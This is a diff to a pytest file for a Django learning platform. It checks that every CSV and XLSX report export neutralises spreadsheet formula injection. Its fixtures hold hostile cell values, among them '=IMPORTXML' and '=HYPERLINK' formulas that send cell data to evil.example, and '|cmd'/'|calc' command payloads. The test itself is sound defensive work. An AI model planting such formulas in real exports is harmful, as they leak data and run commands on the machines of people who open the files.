@@ -19,12 +19,18 @@ from wagtail.contrib.redirects.models import Redirect
 from wagtail.models import Page
 
 from certificates import services as certificate_services
+from coordinators.models import StudyRoster
 from courses.models import CreditType
 from courses.permissions import ensure_review_workflow
+from enrollments.models import CourseEvaluation, Enrollment, QuizAttempt
+from enrollments.services import question_snapshot
+from organizations import services as organization_services
+from organizations.models import Organization
 from reports import services as report_services
 from reports.models import ReportExport
 from tests.accounts.factories import UserFactory
 from tests.courses import factories
+from tests.factories import coordinator as make_coordinator
 from tests.reports.test_scoping import issued
 
 pytestmark = pytest.mark.django_db
@@ -43,6 +49,8 @@ CREDIT_NAME = "|cmd credit"
 REVOKE_REASON = '=HYPERLINK("http://evil.example","reason")\x1f'  # XLSX cannot hold \x1f
 ADMIN_NAME = "\r=1+1 Admin\x07"
 REDIRECT_LINK = "|calc"
+SITE_IDENTIFIER = "=2+2"
+STUDY_NAME = "@SUM(A1:A9) study"
 
 REPORTS = "/admin/learning-reports/"
 FOREGROUND = [
@@ -57,13 +65,23 @@ FOREGROUND = [
     ("/admin/reports/workflow/", {}),
     ("/admin/reports/workflow_tasks/", {}),
     ("/admin/redirects/", {}),
+    ("/admin/organizations/", {}),
+    (f"{REPORTS}evaluations/", {}),
+    (f"{REPORTS}evaluation-comments/", {}),
+    (f"{REPORTS}question-statistics/", lambda world: {"quiz": world["quiz"].pk}),
 ]
 BACKGROUND = {
     "course_completion": {},
     "learner_progress": {},
     "organization_roster": {"organization": ORGANIZATION},
     "learner_transcript": {"learner_email": EMAIL},
+    "evaluation_summary": {},
+    "evaluation_comments": {},
+    "question_statistics": lambda world: {"quiz_id": world["quiz"].pk, "attempts": "all"},
 }
+COMMENT = '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'
+PROMPT = "+SUM(A1:A9) is which?"
+OPTION = "@cmd option"
 
 
 @pytest.fixture
@@ -93,7 +111,30 @@ def hostile_world(admin):
     course.save_revision(user=admin)
     workflow.start(course, admin)
     Redirect.objects.create(old_path="/old-course", redirect_link=REDIRECT_LINK)
-    return {"learner": learner}
+    # A site coordinator's study roster of a hostile organization.
+    site = Organization.objects.create(name=ORGANIZATION, site_identifier=SITE_IDENTIFIER,
+                                       city="-1+1", country="+44")  # fmt: skip
+    organization_services.affiliate(user=learner, organization=site)
+    coordinator = make_coordinator(site, email="coordinator@example.org",
+                                  full_name=ADMIN_NAME)  # fmt: skip
+    roster = StudyRoster.objects.create(organization=site, name=STUDY_NAME,
+                                        on_date=timezone.localdate())  # fmt: skip
+    roster.courses.set([course, other])
+    enrollment = Enrollment.objects.get(user=learner, course=course)
+    CourseEvaluation.objects.create(
+        enrollment=enrollment, overall=2, relevance=3, objectives_met=True, free_of_bias=False,
+        would_recommend=False, practice_change=COMMENT, comments=COMMENT,
+    )  # fmt: skip
+    quiz = factories.module(course, "Quiz", quiz_kind="knowledge_check", questions=[
+        factories.block("question", {"prompt": PROMPT, "explanation": "<p>x</p>", "options": [
+            {"text": OPTION, "correct": True}, {"text": "-1", "correct": False}]}),
+    ])  # fmt: skip
+    snapshot = question_snapshot(quiz)
+    QuizAttempt.objects.create(
+        enrollment=enrollment, module=quiz, number=1, questions=snapshot,
+        answers={snapshot[0]["id"]: [0]}, score=100, passed=True,
+    )  # fmt: skip
+    return {"learner": learner, "coordinator": coordinator, "roster": roster, "quiz": quiz}
 
 
 def content_of(response) -> bytes:
@@ -135,6 +176,7 @@ def test_every_export_route_writes_every_hostile_cell_as_plain_text(client, admi
     client.force_login(admin)
     outputs: dict = {}
     for url, params in FOREGROUND:
+        params = params(hostile_world) if callable(params) else params
         for export_format in ("csv", "xlsx"):
             response = client.get(url, {**params, "export": export_format})
             assert response.status_code == 200, (url, export_format)
@@ -142,6 +184,7 @@ def test_every_export_route_writes_every_hostile_cell_as_plain_text(client, admi
             cells = csv_cells(data) if export_format == "csv" else xlsx_cells(data)
             check(outputs, f"{url} {export_format}", cells)
     for report, params in BACKGROUND.items():
+        params = params(hostile_world) if callable(params) else params
         for export_format in ("csv", "xlsx"):
             export = ReportExport.objects.create(
                 user=admin, report=report, params=params, export_format=export_format
@@ -157,6 +200,11 @@ def test_every_export_route_writes_every_hostile_cell_as_plain_text(client, admi
     transcript = client.get("/certificates/transcript/", {"format": "csv"})
     assert transcript.status_code == 200
     check(outputs, "learner transcript csv", csv_cells(content_of(transcript)))
+    roster = hostile_world["roster"]
+    client.force_login(hostile_world["coordinator"])
+    study = client.get(f"/site/{roster.organization_id}/studies/{roster.pk}/csv/")
+    assert study.status_code == 200
+    check(outputs, "study roster csv", csv_cells(content_of(study)))
 
     assert {name: o["unsafe"] for name, o in outputs.items() if o["unsafe"]} == {}
     assert [name for name, o in outputs.items() if not o["hostile_seen"]] == []
